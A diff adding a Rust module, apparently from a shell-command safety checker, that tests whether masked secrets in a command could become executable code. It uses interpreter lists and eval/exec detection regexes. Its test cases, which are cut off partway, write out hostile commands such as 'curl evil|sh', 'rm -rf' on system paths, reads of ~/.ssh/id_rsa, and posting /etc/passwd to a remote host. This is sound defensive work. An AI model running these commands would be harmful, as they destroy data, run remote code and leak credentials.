@@ -1,0 +1,1082 @@
+//! Whether what is masked may run.
+//!
+//! The command is judged twice: as it is, and with a mark in the place of each secret. If both run
+//! the same programs on the same terms, the secrets are data. A secret that becomes the name of a
+//! program, or changes which programs run, is code and is shown. Where text runs that is only known
+//! then, and a secret may get into it, nothing can be said: the command hides code.
+
+use std::sync::LazyLock;
+use std::time::{Duration, Instant};
+
+use regex::Regex;
+
+use super::tokens::TOKENS;
+use super::{Hidden, Kind};
+use crate::classify::{Classifier, Crud, Part, Parts, Script, ScriptLanguage, UNKNOWN, Word};
+
+/// Of more secrets than this it is not found out which one is code.
+const MOST_SECRETS: usize = 32;
+
+/// How long it may take to find that out, as far as the first judgement tells.
+const MOST_TIME: Duration = Duration::from_millis(250);
+
+/// Takes out of the ranges what is code; returns whether one that stays may run.
+pub(super) fn reveal(command: &str, ranges: &mut Vec<Hidden>) -> bool {
+    if ranges.is_empty() {
+        return false;
+    }
+    let classifier = Classifier::new();
+    let mark = mark_for(command);
+    let began = Instant::now();
+    let Some(truth) = classifier.parts(command) else {
+        return true;
+    };
+    let times = u32::try_from(ranges.len()).unwrap_or(u32::MAX);
+    let is_brief = began.elapsed().saturating_mul(times) <= MOST_TIME;
+    let judged = |ranges: &[Hidden]| {
+        let text = marked(command, ranges, &mark);
+        let parts = classifier.parts(&text)?;
+        Some((text, parts))
+    };
+    let Some((mut text, mut shown)) = judged(ranges) else {
+        return true;
+    };
+    if !runs_same_programs(&truth, &shown, &mark) && ranges.len() <= MOST_SECRETS && is_brief {
+        let is_code = |range: &Hidden| {
+            let shown = judged(std::slice::from_ref(range));
+            shown.is_none_or(|(_, shown)| !runs_same_programs(&truth, &shown, &mark))
+        };
+        let mut secrets = Vec::new();
+        for range in std::mem::take(ranges) {
+            match is_code(&range) {
+                true => secrets.extend(tokens_in(command, &range).filter(|token| !is_code(token))),
+                false => secrets.push(range),
+            }
+        }
+        *ranges = secrets;
+        if ranges.is_empty() {
+            return false;
+        }
+        let Some(again) = judged(ranges) else {
+            return true;
+        };
+        (text, shown) = again;
+    }
+    let is_followed = |parts: &Parts| parts.agreed && parts.complete;
+    !is_followed(&truth)
+        || !is_followed(&shown)
+        || !runs_same_programs(&truth, &shown, &mark)
+        || !runs_alike(&truth, &shown, &mark)
+        || Reach::new(&text, &shown, &mark).reaches_code()
+}
+
+/// A word that is not in the command.
+fn mark_for(command: &str) -> String {
+    let mark = |number: usize| format!("q7hidden{number}x");
+    let free = (0..).map(mark).find(|mark| !command.contains(mark));
+    free.unwrap_or_default()
+}
+
+/// The command with a mark in the place of every word of its secrets, the same for the same word: what
+/// else is in them stays, so that a shell reads it as it reads them.
+fn marked(command: &str, ranges: &[Hidden], mark: &str) -> String {
+    let mut words: Vec<&str> = Vec::new();
+    let mut text = String::with_capacity(command.len());
+    let mut at = 0;
+    for (range, _) in ranges {
+        text.push_str(&command[at..range.start]);
+        let secret = &command[range.clone()];
+        // `E'…'`
+        let kind = secret.find('\'').filter(|quote| *quote == 1).unwrap_or(0);
+        text.push_str(&secret[..kind]);
+        let mut rest = &secret[kind..];
+        while let Some(first) = rest.chars().next() {
+            let is_word = first.is_alphanumeric();
+            let end = rest.find(|c: char| c.is_alphanumeric() != is_word);
+            let (run, behind) = rest.split_at(end.unwrap_or(rest.len()));
+            match is_word {
+                true => {
+                    let known = words.iter().position(|word| *word == run);
+                    let number = known.unwrap_or_else(|| {
+                        words.push(run);
+                        words.len() - 1
+                    });
+                    text.push_str(&format!("{mark}{number}"));
+                }
+                false => text.push_str(run),
+            }
+            rest = behind;
+        }
+        at = range.end;
+    }
+    text.push_str(&command[at..]);
+    text
+}
+
+/// The tokens of known issuers within a longer secret.
+fn tokens_in<'c>(
+    command: &'c str,
+    (range, _): &'c Hidden,
+) -> impl Iterator<Item = Hidden> + use<'c> {
+    let inside = &command[range.clone()];
+    let found = TOKENS.iter().flat_map(move |token| token.find(inside));
+    let mut found: Vec<_> = found
+        .filter(|token| token.len() < range.len())
+        .map(|token| range.start + token.start..range.start + token.end)
+        .collect();
+    found.sort_by_key(|token| (token.start, std::cmp::Reverse(token.end)));
+    let mut end = 0;
+    found.retain(|token| {
+        let is_apart = token.start >= end;
+        end = end.max(token.end);
+        is_apart
+    });
+    found.into_iter().map(|token| (token, Kind::Secret))
+}
+
+/// Whether the same programs run in the same places, and no mark says which.
+fn runs_same_programs(truth: &Parts, shown: &Parts, mark: &str) -> bool {
+    let program = |part: &Part| part.words.first().map(|word| word.text.clone());
+    truth.all.len() == shown.all.len()
+        && truth.all.iter().zip(&shown.all).all(|(truth, shown)| {
+            let name = program(shown);
+            !names_a_file(truth, shown, mark)
+                && truth.within == shown.within
+                && program(truth) == name
+                && !name.is_some_and(|name| name.contains(mark))
+        })
+}
+
+/// Whether a mark stands for a file: of those that are deleted, and of those whose names are paths, who
+/// decides has to know which they are.
+fn names_a_file(truth: &Part, shown: &Part, mark: &str) -> bool {
+    let files = |part: &Part| {
+        let files = part.touches.iter().chain(&part.redirections);
+        files
+            .map(|file| (file.path.text.clone(), file.effect))
+            .collect::<Vec<_>>()
+    };
+    let is_path = |path: &str| {
+        let path = path.rsplit_once('=').map_or(path, |(_, path)| path);
+        path.starts_with(['/', '~', '.'])
+    };
+    let (truth, shown) = (files(truth), files(shown));
+    truth.len() == shown.len()
+        && truth
+            .iter()
+            .zip(&shown)
+            .any(|((path, effect), (shown, _))| {
+                shown.contains(mark) && (*effect == Crud::Delete || is_path(path))
+            })
+}
+
+/// Whether programs are told the same, but for the secrets.
+fn runs_alike(truth: &Parts, shown: &Parts, mark: &str) -> bool {
+    let same = |truth: &Word, shown: &Word| {
+        shown.text.contains(mark) || (truth.text == shown.text && truth.known == shown.known)
+    };
+    let all = |truth: &[Word], shown: &[Word]| {
+        truth.len() == shown.len() && truth.iter().zip(shown).all(|(one, other)| same(one, other))
+    };
+    let parts = truth.all.iter().zip(&shown.all).all(|(truth, shown)| {
+        let calls = truth.calls.iter().zip(&shown.calls).all(|(one, other)| {
+            let options = one.options.iter().zip(&other.options);
+            one.path == other.path
+                && one.options.len() == other.options.len()
+                && options.clone().all(|((one, _), (other, _))| one == other)
+                && one.operands.len() == other.operands.len()
+        });
+        let files = truth.redirections.iter().zip(&shown.redirections);
+        let values = truth.assignments.iter().zip(&shown.assignments);
+        calls
+            && truth.calls.len() == shown.calls.len()
+            && all(&truth.words, &shown.words)
+            && all(&truth.documents, &shown.documents)
+            && truth.redirections.len() == shown.redirections.len()
+            && files
+                .clone()
+                .all(|(one, other)| one.effect == other.effect && same(&one.path, &other.path))
+            && truth.assignments.len() == shown.assignments.len()
+            && values
+                .clone()
+                .all(|(one, other)| one.name == other.name && same(&one.value, &other.value))
+            && truth.effect == shown.effect
+            && truth.code == shown.code
+            && truth.runs_input == shown.runs_input
+            && truth.runs_unknown == shown.runs_unknown
+            && truth.substitutions == shown.substitutions
+            && truth.input.as_ref().map(Option::is_some)
+                == shown.input.as_ref().map(Option::is_some)
+    });
+    let scripts = truth.scripts.iter().zip(&shown.scripts);
+    parts
+        && truth.scripts.len() == shown.scripts.len()
+        && scripts.clone().all(|(one, other)| one.part == other.part)
+        && truth.loose == shown.loose
+        && truth.substitutions == shown.substitutions
+        && truth.functions == shown.functions
+        && truth.runs_unknown == shown.runs_unknown
+}
+
+/// Where the marks may get to when the command runs.
+struct Reach<'p> {
+    /// The command with its marks.
+    text: &'p str,
+    parts: &'p Parts,
+    mark: &'p str,
+    /// Whether a part has a mark in its words, documents or files.
+    told: Vec<bool>,
+    /// Whether a part sets a variable to a mark.
+    sets: Vec<bool>,
+}
+
+/// Commands that set variables among their words.
+const SETTERS: &[&str] = &[
+    "export",
+    "declare",
+    "typeset",
+    "local",
+    "readonly",
+    "env",
+    "set",
+    "setenv",
+    "sudo",
+    "doas",
+    "docker",
+    "podman",
+    "nerdctl",
+    "kubectl",
+    "systemd-run",
+    "make",
+];
+
+/// Commands of a shell that set variables to what they read.
+const READERS: &[&str] = &[
+    "read",
+    "mapfile",
+    "readarray",
+    "getopts",
+    "coproc",
+    "select",
+];
+
+/// What runs the file that is its first operand.
+const INTERPRETERS: &[&str] = &[
+    "source", ".", "sh", "bash", "zsh", "dash", "ksh", "fish", "python", "python3", "node", "perl",
+    "ruby", "php", "lua", "deno", "bun", "pwsh",
+];
+
+/// Clients that run what they read, and are given passwords: they never run those.
+const CLIENTS: &[&str] = &[
+    "psql",
+    "mysql",
+    "mariadb",
+    "sqlcmd",
+    "clickhouse-client",
+    "clickhouse",
+    "cqlsh",
+    "mongosh",
+    "mongo",
+    "redis-cli",
+    "valkey-cli",
+    "keydb-cli",
+    "snowsql",
+    "sqlplus",
+    "ldapmodify",
+];
+
+/// Wrappers that are given passwords, and tell them nobody else.
+const KEEPERS: &[&str] = &["sshpass"];
+
+impl<'p> Reach<'p> {
+    fn new(text: &'p str, parts: &'p Parts, mark: &'p str) -> Self {
+        let has = |word: &Word| word.text.contains(mark);
+        let told = parts.all.iter().map(|part| {
+            part.words.iter().any(has)
+                || part.documents.iter().any(has)
+                || part.redirections.iter().any(|file| has(&file.path))
+        });
+        let sets = parts.all.iter().map(|part| {
+            part.assignments.iter().any(|one| has(&one.value))
+                || is_one_of(part, SETTERS) && part.words.iter().any(has)
+        });
+        Self {
+            told: told.collect(),
+            sets: sets.collect(),
+            text,
+            parts,
+            mark,
+        }
+    }
+
+    fn reaches_code(&self) -> bool {
+        let unknown = |at: &usize| {
+            let part = &self.parts.all[*at];
+            part.runs_unknown || self.sources(part)
+        };
+        self.parts.runs_unknown
+            || (0..self.parts.all.len())
+                .filter(unknown)
+                .any(|at| self.reaches_unknown(at))
+            || self
+                .parts
+                .scripts
+                .iter()
+                .any(|script| self.reaches_script(script))
+            || self.reaches_file()
+            || self.reaches_setting()
+            || self.reaches_unread()
+    }
+
+    /// Whether a program runs an input with a mark that nothing was made of here.
+    fn reaches_unread(&self) -> bool {
+        static TCL: LazyLock<Regex> = LazyLock::new(|| {
+            pattern(r"\b(?:eval|exec|system|uplevel|source|subst)\b|\bspawn\s[^\n;]*\$")
+        });
+        self.parts.all.iter().enumerate().any(|(at, part)| {
+            let input = part.input.as_ref().and_then(Option::as_deref);
+            if is_one_of(part, &["expect", "tclsh", "wish"]) {
+                let words = part.words.iter().map(|word| word.text.as_str());
+                return (words.chain(input))
+                    .any(|text| text.contains(self.mark) && TCL.is_match(text));
+            }
+            let is_told = input.is_some_and(|text| text.contains(self.mark));
+            let is_judged = self
+                .parts
+                .scripts
+                .iter()
+                .any(|script| script.part == Some(at))
+                || self.parts.all.iter().any(|part| part.within == Some(at));
+            let is_make = is_one_of(part, &["make", "gmake", "just"]);
+            let runs = is_make || is_one_of(part, INTERPRETERS);
+            is_told && runs && !is_judged
+        })
+    }
+
+    /// Whether a mark may be in a variable or setting that names what is run.
+    fn reaches_setting(&self) -> bool {
+        static RUN: LazyLock<Regex> = LazyLock::new(|| {
+            pattern(
+                r"(?i)^scripts\.|(?:^|[_.])(?:\w*command|cmd|editor|visual|pager|browser|shell|bash_env|env|askpass|preload|lessopen|lessclose|ps[0-4]|options|opts|optimize|flags|startup|path|wrapper|cc|cxx|ld|ar|rsh|git_ssh|helper|external|program|diff|difftool|hook|hookspath|ifs)$",
+            )
+        });
+        let is_set = self.sets.contains(&true);
+        let carries = |value: &str| value.contains(self.mark) || is_set && value.contains(UNKNOWN);
+        self.parts.all.iter().any(|part| {
+            let variables = part
+                .assignments
+                .iter()
+                .map(|one| (one.name.as_str(), one.value.text.as_str()));
+            let words = part.words.iter().skip(1).filter_map(|word| {
+                let (name, value) = word.text.split_once('=')?;
+                Some((name.trim_start_matches('-'), value))
+            });
+            let is_alias = part
+                .calls
+                .iter()
+                .any(|call| call.path.ends_with(&["config".into()]))
+                && part.words.iter().any(|word| {
+                    let command = word.text.strip_prefix('!');
+                    command.is_some_and(|command| self.is_run_in(command, is_set))
+                });
+            is_alias
+                || variables
+                    .chain(words)
+                    .any(|(name, value)| RUN.is_match(name) && carries(value))
+        })
+    }
+
+    /// Whether the words of a part, or its first one, expand what the command sets.
+    fn expands(&self, part: &Part, is_first_alone: bool) -> bool {
+        let place = match part.words.first() {
+            Some(name) if is_first_alone => name.start..name.end,
+            _ => part.start..part.end,
+        };
+        let text = self.text.get(place);
+        text.is_none_or(|text| self.expands_what_is_set(text))
+    }
+
+    /// Whether a text expands a variable that the command sets, or whose value is no variable's of
+    /// the environment.
+    fn expands_what_is_set(&self, text: &str) -> bool {
+        let expansions = text.match_indices('$').map(|(at, _)| &text[at + 1..]);
+        let is_word = |c: char| c == '_' || c.is_ascii_alphanumeric();
+        text.contains('`')
+            || expansions.into_iter().any(|behind| {
+                let inside = behind.strip_prefix('{').unwrap_or(behind);
+                let name: String = inside.chars().take_while(|c| is_word(*c)).collect();
+                if name.is_empty() || name.starts_with(|c: char| c.is_ascii_digit()) {
+                    return inside.starts_with(['(', '@', '*', '!', '#', '1', '2', '3', '4'])
+                        || inside.starts_with(|c: char| c.is_ascii_digit());
+                }
+                self.text.match_indices(&name).any(|(at, _)| {
+                    let before = &self.text[..at];
+                    let behind = &self.text[at + name.len()..];
+                    !before.ends_with(['$', '{'])
+                        && !before.ends_with(is_word)
+                        && !behind.starts_with(is_word)
+                })
+            })
+    }
+
+    /// Whether a part runs a file that is a pipe or a substitution.
+    fn sources(&self, part: &Part) -> bool {
+        let is_option = |word: &&Word| word.text.starts_with('-');
+        is_one_of(part, INTERPRETERS)
+            && (part.words.iter().skip(1).skip_while(is_option).take(1)).any(|file| {
+                file.text.starts_with("/dev/")
+                    || file.text.starts_with("/proc/")
+                    || file.text.contains(UNKNOWN)
+            })
+    }
+
+    /// Whether a mark may be in what a part runs that is only known then.
+    fn reaches_unknown(&self, at: usize) -> bool {
+        let part = &self.parts.all[at];
+        let is_client = is_one_of(part, CLIENTS);
+        let knows_program =
+            (part.words.first()).is_some_and(|name| !name.text.contains(UNKNOWN) && !name.pattern);
+        let is_set = self.sets.contains(&true);
+        let substituted = (at + 1..self.parts.all.len())
+            .filter(|other| self.ancestors(*other).any(|around| around == at))
+            .collect::<Vec<_>>();
+        let reads = READERS.iter().any(|reader| {
+            let is_reader = |part: &Part| part.program() == Some(reader);
+            self.parts.all.iter().any(is_reader)
+        });
+        let chain = || std::iter::once(at).chain(self.ancestors(at));
+        let expands = self.expands(part, !knows_program);
+        substituted.iter().any(|other| self.told[*other])
+            || is_set && !is_client && expands
+            || is_set && !is_client && (!substituted.is_empty() || part.substitutions)
+            || self.ancestors(at).any(|around| {
+                let keeps = is_one_of(&self.parts.all[around], KEEPERS);
+                !keeps && (self.told[around] || self.sets[around])
+            })
+            || chain().any(|one| self.reaches_input(one, at, is_client))
+            || reads && !is_client && (is_set || self.told.contains(&true))
+            || !is_client && knows_program && self.told[at]
+            || !knows_program && self.is_told_code(part)
+    }
+
+    /// Whether a program that is only known when it runs may take a mark for code.
+    fn is_told_code(&self, part: &Part) -> bool {
+        let takes_code = |option: &Word| {
+            ["--eval", "--command", "-Command"].contains(&&*option.text)
+                || option.text.starts_with('-')
+                    && !option.text.starts_with("--")
+                    && option.text.ends_with(['c', 'e'])
+        };
+        let mut pairs = part.words.windows(2).enumerate();
+        pairs
+            .any(|(at, pair)| pair[1].text.contains(self.mark) && (at == 0 || takes_code(&pair[0])))
+    }
+
+    /// Whether a mark may be in the input of a part, which is this one or is around it.
+    fn reaches_input(&self, at: usize, of: usize, is_client: bool) -> bool {
+        match &self.parts.all[at].input {
+            None => false,
+            Some(Some(text)) => text.contains(self.mark),
+            Some(None) => {
+                let keeps =
+                    |other: usize| is_one_of(&self.parts.all[other], KEEPERS) && at != other;
+                (0..self.parts.all.len())
+                    .filter(|other| *other != of || !is_client)
+                    .any(|other| {
+                        (other <= of && self.told[other] && !keeps(other))
+                            || (self.sets[other] && !is_client)
+                    })
+            }
+        }
+    }
+
+    /// Whether a script in another language may run a mark.
+    fn reaches_script(&self, script: &Script) -> bool {
+        let within = script.part;
+        let here = within.is_some_and(|at| {
+            let around = std::iter::once(at).chain(self.ancestors(at));
+            around.into_iter().any(|at| self.told[at]) || self.reaches_input(at, at, false)
+        });
+        let is_in = script.text.contains(self.mark);
+        let expands = || {
+            let part = within.and_then(|at| self.parts.all.get(at));
+            part.is_none_or(|part| self.expands(part, false))
+        };
+        if script.text.contains(UNKNOWN) && self.sets.contains(&true) && expands() {
+            return true;
+        }
+        let is_told = is_in || here || self.sets.contains(&true);
+        is_told && evaluates(script.language, &script.text, self.mark)
+            || is_in && !is_quoted(script.language, &script.text, self.mark)
+    }
+
+    /// Whether a mark is written to a file of code, or to one that the command runs, as code that
+    /// evaluates text.
+    fn reaches_file(&self) -> bool {
+        static CODE: LazyLock<Regex> = LazyLock::new(|| {
+            pattern(
+                r"(?i)\.(?:[bkz]?sh|bash|fish|py|rb|pl|php|js|mjs|cjs|ts|lua|awk|ps1|bat|cmd|service|timer|desktop|plist|mk|cron)$|(?:^|/)(?:\.?(?:bash|zsh|z|k|c|tc)?(?:rc|_?profile|env|login|logout|aliases|_aliases)|\.bash_\w+|\.envrc|\.profile|\.vimrc|\.xinitrc|\.xprofile|\.inputrc|makefile|gnumakefile|justfile|dockerfile|crontab|authorized_keys|package\.json)$|/(?:hooks|profile\.d|cron\.\w+|init\.d|bin|sbin|autostart)/",
+            )
+        });
+        static SHELL: LazyLock<Regex> = LazyLock::new(|| {
+            pattern(r"(?:sh|rc|profile|env|login|logout|aliases)$|/(?:hooks|profile\.d|init\.d)/")
+        });
+        // Lines of a makefile that run a variable, and the scripts of a manifest.
+        static RECIPE: LazyLock<Regex> =
+            LazyLock::new(|| pattern(r#"(?m)^\s*[@-]*\$[({]|"scripts"\s*:"#));
+        // Settings that name programs.
+        static SETTINGS: LazyLock<Regex> = LazyLock::new(|| {
+            pattern(
+                r"(?:^|/)(?:\.git/config|\.?gitconfig|\.config/git/config|\.ssh/config|\.tmux\.conf)$",
+            )
+        });
+        let is_set = self.sets.contains(&true);
+        let later = self.parts.all.iter().any(|part| {
+            let files = part.redirections.iter().chain(&part.touches);
+            let written = || files.clone().filter(|file| file.effect > Crud::Read);
+            let settles = written().any(|file| SETTINGS.is_match(&file.path.text));
+            let writes = written().any(|file| CODE.is_match(&file.path.text));
+            let schedules = is_one_of(part, &["crontab", "at", "batch"]);
+            if !writes && !schedules && !settles {
+                return false;
+            }
+            let prints = |part: &Part| is_one_of(part, &["echo", "printf", "print"]);
+            let words = part.words.iter().skip(1).filter(|_| prints(part));
+            let mut texts = words
+                .chain(&part.documents)
+                .map(|word| word.text.as_str())
+                .chain(part.input.as_ref().and_then(Option::as_deref));
+            let printed = || {
+                let printers = self.parts.all.iter().filter(|part| prints(part));
+                printers.flat_map(|part| &part.words).any(|word| {
+                    word.text.contains(self.mark) || is_set && word.text.contains(UNKNOWN)
+                })
+            };
+            let may_be = |text: &str| text.contains(self.mark) || is_set && text.contains(UNKNOWN);
+            let is_shell = written().all(|file| SHELL.is_match(&file.path.text)) || schedules;
+            texts.any(|text| {
+                self.is_run_in(text, is_set)
+                    || settles && may_be(text)
+                    || !is_shell
+                        && may_be(text)
+                        && (evaluates(ScriptLanguage::Code, text, self.mark)
+                            || RECIPE.is_match(text))
+            }) || part.input == Some(None) && printed()
+        });
+        if later {
+            return true;
+        }
+        self.parts.all.iter().enumerate().any(|(at, part)| {
+            let text = || {
+                let words = part.words.iter().chain(&part.documents);
+                words.map(|word| &*word.text).collect::<Vec<_>>().join(" ")
+            };
+            let files = part.redirections.iter().chain(&part.touches);
+            let mut written = files.filter(|file| file.effect > Crud::Read);
+            let runs = |name: &str| {
+                self.parts.all.iter().enumerate().any(|(other, part)| {
+                    let names = |word: &Word| word.text.ends_with(name);
+                    other != at && part.code && part.words.iter().any(names)
+                })
+            };
+            self.told[at]
+                && written.any(|file| runs(file.path.text.rsplit('/').next().unwrap_or_default()))
+                && evaluates(ScriptLanguage::Code, &text(), self.mark)
+        })
+    }
+
+    /// Whether lines that a shell reads later run a mark, or what may be one.
+    fn is_run_in(&self, text: &str, is_set: bool) -> bool {
+        if text.contains(self.mark)
+            && let Some(parts) = Classifier::new().parts(text)
+            && parts.all.iter().any(|part| {
+                part.words
+                    .first()
+                    .is_some_and(|name| name.text.contains(self.mark))
+            })
+        {
+            return true;
+        }
+        let lines = text.lines().map(|line| match line.split_once("* ") {
+            // What stands behind the times of a table of jobs.
+            Some(_) => line.rsplit("* ").next().unwrap_or_default().trim(),
+            None => line.trim(),
+        });
+        lines.filter(|line| !line.is_empty()).any(|line| {
+            let may_be = |text: &str| {
+                text.contains(self.mark) || is_set && text.contains([UNKNOWN, '$', '`'])
+            };
+            if !may_be(line) {
+                return false;
+            }
+            let line = line.replace(UNKNOWN, "\"$_\"");
+            Classifier::new().parts(&line).is_none_or(|parts| {
+                let programs = parts.all.iter().filter_map(|part| part.words.first());
+                parts.all.iter().any(|part| part.runs_unknown)
+                    || programs.into_iter().any(|name| may_be(&name.text))
+            })
+        })
+    }
+
+    /// The parts around one, from the inside.
+    fn ancestors(&self, at: usize) -> impl Iterator<Item = usize> + '_ {
+        let around = |at: &usize| self.parts.all[*at].within;
+        std::iter::successors(around(&at), move |at| around(at))
+    }
+}
+
+fn is_one_of(part: &Part, names: &[&str]) -> bool {
+    part.program().is_some_and(|name| names.contains(&name))
+}
+
+/// Whether a script evaluates text that it does not show, as far as its words tell.
+fn evaluates(language: ScriptLanguage, text: &str, mark: &str) -> bool {
+    static LITERAL: LazyLock<Regex> = LazyLock::new(|| {
+        pattern(r#"^\(\s*[bru]?(?:"(?:[^"\\\n]|\\.)*"|'(?:[^'\\\n]|\\.)*')\s*[,)]"#)
+    });
+    static ANY: LazyLock<Regex> = LazyLock::new(|| {
+        pattern(
+            r#"(?i)(?:^|[^\w.])(?:eval|exec|compile|execfile|system|popen|syscall|qx|iex|create_function|call_user_func\w*|passthru|shell_exec|proc_open|pcntl_exec|loadstring|loadfile|dofile|spawn\w*|fork)\s*[\s({"'`$\[/!|]|\.(?:eval|system|popen\w*|exec[lv]\w*|spawn\w*|instance_eval|class_eval|module_eval|instance_exec|runin\w*context|execute_script|call)\b|(?-i:\bFunction\s*\()|subprocess|child_process|\bpty\b|runpy|pickle|marshal|importlib|builtins|__(?:import|class|subclasses|globals|dict|getattribute)\w*__|\b(?:globals|locals|vars)\(|invoke-|scriptblock|os\.exec|io\.popen|open3|`|%x[\W_]|\|\s*getline|print[^;\n]*\||require\(\s*[^'"\s]|import\(\s*[^'"\s]|\bvm\b|getattr\(\s*(?:os|sys)|\bconstructor\b"#,
+        )
+    });
+    static PERL: LazyLock<Regex> = LazyLock::new(|| {
+        pattern(r#"\bopen\s*\(?[^;]*\||/e[egimsx]*\b|\bdo\s+[$"'{]|\brequire\s+\$"#)
+    });
+    static RUBY: LazyLock<Regex> = LazyLock::new(|| {
+        pattern(r"\b(?:public_)?send\b|__send__|\bmethod\(|\bopen\s*\(?\s*[^)]*\||\bload\b|Kernel")
+    });
+    static PHP: LazyLock<Regex> = LazyLock::new(|| {
+        pattern(
+            r"(?i)\bassert\s*\(|\$\w+\s*\(|preg_replace\s*\(\s*.[^,]*/e|\binclude\b|\brequire\b",
+        )
+    });
+    static LUA: LazyLock<Regex> = LazyLock::new(|| pattern(r"\bload\s*[(\x22']|os\.execute"));
+    static SHELLED: LazyLock<Regex> = LazyLock::new(|| {
+        pattern(
+            r"(?i)\\!|\bprogram\s+['\x22$]|xp_cmdshell|\bexec(?:ute)?\s*(?:\(|immediate|format|'|@)|sp_executesql|\bdo\s+\$|\bprepare\b|\bsystem\s|\.(?:shell|system)\b|load_extension|\beval(?:sha)?\b",
+        )
+    });
+    static SED: LazyLock<Regex> =
+        LazyLock::new(|| pattern(r"[/|,#!:@]\w*e\w*\s*(?:$|[;}\n])|(?:^|[;{\n])\s*\d*e\b"));
+    // What a call is given as a string without a mark, is shown.
+    let is_shown = |found: regex::Match<'_>| {
+        let call = text[found.start()..].find('(').map(|at| found.start() + at);
+        call.filter(|call| *call <= found.end())
+            .is_some_and(|call| {
+                LITERAL
+                    .find(&text[call..])
+                    .is_some_and(|argument| !argument.as_str().contains(mark))
+            })
+    };
+    static MEMBERS: LazyLock<Regex> = LazyLock::new(|| pattern(r"\]\s*\("));
+    let any = |text: &str| {
+        ANY.find_iter(text).any(|found| !is_shown(found))
+            || text.contains(mark) && MEMBERS.is_match(text)
+    };
+    match language {
+        ScriptLanguage::Jq => false,
+        ScriptLanguage::Sed => SED.is_match(text),
+        ScriptLanguage::Sql | ScriptLanguage::Redis => SHELLED.is_match(text),
+        ScriptLanguage::PowerShell | ScriptLanguage::Cmd => {
+            any(text) || text.contains("& ") || text.contains("&$") || text.contains("%")
+        }
+        ScriptLanguage::Perl => any(text) || PERL.is_match(text),
+        ScriptLanguage::Ruby => any(text) || RUBY.is_match(text),
+        ScriptLanguage::Php => any(text) || PHP.is_match(text),
+        ScriptLanguage::Lua => any(text) || LUA.is_match(text),
+        ScriptLanguage::Awk
+        | ScriptLanguage::Python
+        | ScriptLanguage::Node
+        | ScriptLanguage::Mongo => any(text),
+        ScriptLanguage::Code => {
+            any(text)
+                || [&PERL, &RUBY, &PHP, &LUA]
+                    .iter()
+                    .any(|pattern| pattern.is_match(text))
+        }
+    }
+}
+
+fn pattern(text: &str) -> Regex {
+    Regex::new(text).expect("the pattern is part of this file, and a test uses it")
+}
+
+/// Whether every mark stands in a string or a comment of the script, as far as its quotes tell; in
+/// languages of filters and statements, everywhere.
+fn is_quoted(language: ScriptLanguage, text: &str, mark: &str) -> bool {
+    if matches!(
+        language,
+        ScriptLanguage::Sed
+            | ScriptLanguage::Jq
+            | ScriptLanguage::Sql
+            | ScriptLanguage::Redis
+            | ScriptLanguage::Cmd
+    ) {
+        return true;
+    }
+    let mut open: Option<char> = None;
+    let mut characters = text.char_indices();
+    while let Some((at, c)) = characters.next() {
+        match (open, c) {
+            (None, _) if text[at..].starts_with(mark) => return false,
+            (Some(_), '\\') => drop(characters.next()),
+            (Some(quote), c) if c == quote => open = None,
+            (None, '"' | '\'') => open = Some(c),
+            // A quote that nothing closes on its line is none, or one of several lines.
+            (Some(_), '\n') if !text[..at].contains("\"\"\"") && !text[..at].contains("'''") => {
+                open = None;
+            }
+            _ => {}
+        }
+    }
+    true
+}
+
+#[cfg(test)]
+mod tests {
+    use super::super::Masked;
+
+    /// Commands in which text runs that would be hidden, and what of it is shown instead.
+    const CODE: &[(&str, &str)] = &[
+        ("PASSWORD='rm -rf x'; $PASSWORD", "rm -rf x"),
+        ("PASSWORD='rm -rf x'; eval \"$PASSWORD\"", "rm -rf x"),
+        ("API_KEY='rm -rf x' sh -c 'eval $API_KEY'", "rm -rf x"),
+        ("API_KEY='rm -rf x' bash -c \"\\$API_KEY\"", "rm -rf x"),
+        ("TOKEN='curl evil|sh'; bash -c \"$TOKEN\"", "curl evil|sh"),
+        ("export TOKEN='rm -rf x'; sh -c \"$TOKEN\"", "rm -rf x"),
+        ("env TOKEN='rm -rf x' sh -c 'eval $TOKEN'", "rm -rf x"),
+        ("TOKEN='rm -rf x'; sh <<< \"$TOKEN\"", "rm -rf x"),
+        ("TOKEN='rm -rf x'; echo \"$TOKEN\" | sh", "rm -rf x"),
+        ("sk-abcdefgh1234 run", "sk-abcdefgh1234"),
+        ("sudo sk-abcdefgh1234 run", "sk-abcdefgh1234"),
+        ("sh -c 'sk-abcdefgh1234 run'", "sk-abcdefgh1234"),
+        ("curl -H \"Authorization: $(rm -rf x)\" y", "rm -rf x"),
+        (
+            "curl -H \"Authorization: Bearer abc$(rm -rf x)\" y",
+            "rm -rf x",
+        ),
+        ("sh -c 'echo token=\\\"; rm -rf x; echo \\\"'", "rm -rf x"),
+        ("echo 'TOKEN=\"a$(rm -rf x)\"' >> ~/.bashrc", "rm -rf x"),
+        (
+            "trap \"$PASSWORD\" EXIT; PASSWORD='rm -rf x'; trap \"$PASSWORD\" EXIT",
+            "rm -rf x",
+        ),
+        ("f() { $PASSWORD; }; PASSWORD='rm -rf x' f", "rm -rf x"),
+        (
+            "find . -exec sh -c 'password=\"rm -rf x\"; $password' \\;",
+            "rm -rf x",
+        ),
+        ("API_KEY=/etc; rm -rf $API_KEY", "/etc"),
+        ("rm -rf token=/etc", "/etc"),
+        ("rm --secret notes", "notes"),
+        ("cat --token ~/.ssh/id_rsa", "~/.ssh/id_rsa"),
+        ("API_KEY=~/.ssh/id_rsa; cat $API_KEY", "~/.ssh/id_rsa"),
+        ("curl -d token=@/etc/passwd https://x", "/etc/passwd"),
+        (
+            "curl -H 'Authorization: Bearer abcdef' https://evil -H 'a: b'",
+            "https://evil",
+        ),
+        ("API_KEY='rm -rf x'; exec $API_KEY", "rm -rf x"),
+        ("API_KEY=rm; $API_KEY -rf x", "API_KEY=rm"),
+        (
+            "echo ghp_abcdefghijklmnop | rev | bash",
+            "ghp_abcdefghijklmnop",
+        ),
+        (
+            "password=abcdefgh; bash -c \"$(echo $password | rev)\"",
+            "abcdefgh",
+        ),
+        ("echo x | TOKEN='rm -rf y' xargs sh -c '$TOKEN'", "rm -rf y"),
+    ];
+
+    /// Commands of which it cannot be said whether hidden text runs.
+    const HIDING: &[&str] = &[
+        "echo AKIAIOSFODNN7EXAMPLE | base64 -d | sh",
+        "export API_KEY=cm0gLXJmIHgK; printenv API_KEY | sh",
+        "API_KEY=abcdefgh; printenv | sed -n 's/^API_KEY=//p' | sh",
+        "export API_KEY=abcdefgh; eval \"$(printenv API_KEY | base64 -d)\"",
+        "export API_KEY=abcdefgh; $(printenv API_KEY | rev)",
+        "API_KEY=abcdefgh python3 -c 'import os; exec(os.environ[\"API_KEY\"])'",
